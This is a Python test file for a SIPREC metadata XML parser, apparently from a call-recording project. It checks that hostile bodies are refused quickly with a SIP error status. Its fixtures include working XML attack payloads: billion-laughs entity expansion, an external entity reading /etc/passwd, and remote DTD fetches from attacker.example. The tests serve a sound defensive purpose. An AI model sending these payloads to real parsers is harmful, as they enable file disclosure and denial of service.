"""Hostile and broken metadata: a MetadataError with the SIP status, quickly, nothing else."""

from __future__ import annotations

import time
from collections.abc import Callable
from pathlib import Path

import pytest

from callvault.capture.siprec.dialled import work_out_parties
from callvault.capture.siprec.metadata import MetadataError, merge_metadata, parse_metadata
from callvault.capture.siprec.metadata_xml import MAX_METADATA_BYTES
from callvault.capture.siprec.vendor import cisco_participants

pytest.importorskip("hypothesis")

# Imported after the skip (so a missing hypothesis skips) and by name (so mypy sees its types).
import hypothesis
from hypothesis import strategies as st

FIXTURES = Path(__file__).parent / "fixtures" / "metadata"
SEEDS = sorted(p.read_bytes() for p in FIXTURES.glob("*.xml"))
# Generous for a loaded CI machine; each of these takes milliseconds when refused early.
TIME_LIMIT_S = 2.0

BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [
  <!ENTITY lol "lol">
  <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
  <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
  <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
  <!ENTITY lol9 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
]>
<recording><participant><nameID aor="&lol9;"/></participant></recording>"""

EXTERNAL_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE recording [<!ENTITY secret SYSTEM "file:///etc/passwd">]>
<recording><participant><nameID aor="&secret;"/></participant></recording>"""

PARAMETER_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE recording [<!ENTITY % remote SYSTEM "http://attacker.example/x.dtd"> %remote;]>
<recording/>"""

EXTERNAL_DTD = b"""<?xml version="1.0"?>
<!DOCTYPE recording SYSTEM "http://attacker.example/recording.dtd">
<recording/>"""

PLAIN_DTD = b"""<?xml version="1.0"?>
<!DOCTYPE recording [<!ELEMENT recording ANY>]>
<recording/>"""


def deep(levels: int) -> bytes:
    return b"<recording>" + b"<a>" * levels + b"</a>" * levels + b"</recording>"


def huge() -> bytes:
    pad = b"<participant><nameID aor='sip:1@x'/></participant>" * 110_000
    return b"<recording>" + pad + b"</recording>"  # about 5 MB


def wide() -> bytes:
    return b"<recording>" + b"<stream/>" * 20_000 + b"</recording>"


TRUNCATED = (FIXTURES / "rfc7865-full.xml").read_bytes()[:700]
BAD_UTF8 = b'<recording><participant><nameID aor="sip:\xff\xfe@x"/></participant></recording>'

HOSTILE: dict[str, tuple[Callable[[], bytes | str], int, str]] = {
    "billion laughs": (lambda: BILLION_LAUGHS, 400, "DTD"),
    "external entity": (lambda: EXTERNAL_ENTITY, 400, "DTD"),
    "parameter entity": (lambda: PARAMETER_ENTITY, 400, "DTD"),
    "external DTD": (lambda: EXTERNAL_DTD, 400, "DTD"),
    "internal DTD": (lambda: PLAIN_DTD, 400, "DTD"),
    "10,000-deep nesting": (lambda: deep(10_000), 400, "Too Deep"),
    "5 MB body": (huge, 413, "Too Large"),
    "5 MB text body": (lambda: huge().decode(), 413, "Too Large"),
    "20,000 elements": (wide, 400, "Too Long"),
    "invalid UTF-8": (lambda: BAD_UTF8, 400, "Not Well-Formed"),
    "truncated": (lambda: TRUNCATED, 400, "Not Well-Formed"),
    "empty": (lambda: b"", 400, "Not Well-Formed"),
    "not XML": (lambda: b"v=0\r\no=- 1 1 IN IP4 192.0.2.1\r\n", 400, "Not Well-Formed"),
    "lone surrogate": (lambda: "<recording>\ud800</recording>", 400, "Not Well-Formed"),
    "unknown encoding": (lambda: b'<?xml version="1.0" encoding="x-evil"?><recording/>', 400, ""),
}


@pytest.mark.parametrize("name", sorted(HOSTILE))
def test_hostile_metadata_is_refused_quickly_with_the_sip_status(name: str) -> None:
    make, status, reason_part = HOSTILE[name]
    body = make()
    started = time.perf_counter()
    with pytest.raises(MetadataError) as caught:
        parse_metadata(body)
    elapsed = time.perf_counter() - started
    assert elapsed < TIME_LIMIT_S, f"{name} took {elapsed:.2f}s"
    assert caught.value.status == status
    assert reason_part in caught.value.reason
    assert caught.value.message  # names the problem for the log and the audit


def test_entity_references_are_never_expanded_into_the_result() -> None:
    # Even a predeclared entity such as &amp; is fine; only declarations are refused.
    body = b'<recording><participant><nameID aor="sip:1&amp;2@x"/></participant></recording>'
    assert parse_metadata(body).participants[0].aor == "sip:1&2@x"


def test_the_size_limit_is_exact() -> None:
    filler = b"<recording>" + b" " * (MAX_METADATA_BYTES - len(b"<recording></recording>"))
    parse_metadata(filler + b"</recording>")
    with pytest.raises(MetadataError) as caught:
        parse_metadata(filler + b" </recording>")
    assert caught.value.status == 413


def test_nesting_just_inside_the_limit_parses() -> None:
    assert parse_metadata(deep(30)).participants == ()


def _mutate(seed: bytes, data: st.DataObject) -> bytes:
    """Random edits of a real-looking document: flips, cuts, duplicated and foreign chunks."""
    body = bytearray(seed)
    tokens = [b"<", b">", b"</", b"/>", b"&", b"&#0;", b"\xff", b'"', b"<participant>", b"]]>"]
    for _ in range(data.draw(st.integers(1, 8))):
        if not body:
            break
        at = data.draw(st.integers(0, len(body) - 1))
        action = data.draw(st.sampled_from(["flip", "cut", "dup", "insert", "truncate"]))
        if action == "flip":
            body[at] = data.draw(st.integers(0, 255))
        elif action == "cut":
            del body[at : at + data.draw(st.integers(1, 64))]
        elif action == "dup":
            body[at:at] = body[at : at + data.draw(st.integers(1, 256))]
        elif action == "insert":
            body[at:at] = data.draw(st.sampled_from(tokens))
        else:
            del body[at:]
    return bytes(body)


@hypothesis.settings(max_examples=300, deadline=None)
@hypothesis.given(seed=st.sampled_from(SEEDS), data=st.data())
def test_mutated_fixtures_give_metadata_or_the_dedicated_error(
    seed: bytes, data: st.DataObject
) -> None:
    body = _mutate(seed, data)
    try:
        metadata = parse_metadata(body)
    except MetadataError as error:
        assert error.status in {400, 413}
        return
    # Whatever parsed must flow through the rest without raising.
    merged = merge_metadata(parse_metadata(SEEDS[0]), metadata)
    for result in (work_out_parties(metadata), work_out_parties(merged)):
        assert result.direction in {"inbound", "outbound"}
        assert result.dialled is None or result.dialled in result.reason


@hypothesis.settings(max_examples=300, deadline=None)
@hypothesis.given(text=st.text(max_size=300))
def test_any_text_gives_metadata_or_the_dedicated_error(text: str) -> None:
    try:
        parse_metadata(text)
    except MetadataError as error:
        assert error.status == 400


@hypothesis.settings(max_examples=300, deadline=None)
@hypothesis.given(values=st.lists(st.text(max_size=80), max_size=4))
def test_any_cisco_header_values_are_read_without_error(values: list[str]) -> None:
    headers = [("X-Cisco-Recording-Participant", value) for value in values]
    for participant in cisco_participants(headers):
        assert participant.uri
    work_out_parties(None, headers)
